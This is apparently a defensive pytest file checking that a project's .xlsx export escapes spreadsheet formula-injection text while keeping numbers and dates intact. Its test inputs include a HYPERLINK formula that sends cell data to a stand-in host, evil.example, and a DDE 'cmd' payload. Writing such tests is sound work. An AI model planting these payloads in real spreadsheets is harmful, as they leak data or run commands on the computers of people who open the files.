"""Every .xlsx export goes through renda.core.spreadsheets: text a spreadsheet would evaluate
as a formula (OWASP "CSV Injection") is written as plain text; numbers and dates stay so."""

from __future__ import annotations

import datetime
import io

import pytest
from openpyxl import load_workbook

from renda.core.spreadsheets import Column, inert, single_table


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点击")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_starts_a_formula_is_written_as_text(text):
    data = single_table(
        sheet="s",
        title=text,
        subtitle=text,
        columns=[Column(text, 10), Column("n", 10), Column("d", 10, is_date=True)],
        rows=[[text, 5, datetime.date(2024, 3, 1)]],
    )
    ws = load_workbook(io.BytesIO(data)).active
    for cell in (ws["A1"], ws["A2"], ws["A3"], ws["A4"]):
        assert cell.data_type == "s"
        assert cell.value == "'" + text
    assert ws["B4"].value == 5 and ws["B4"].data_type == "n"
    assert ws["C4"].value == datetime.datetime(2024, 3, 1)


def test_ordinary_values_are_untouched():
    for value in ("红绿灯太短", "a=b", "13812345678", "", None, 3, -3, 2.5, -0.5):
        assert inert(value) == value
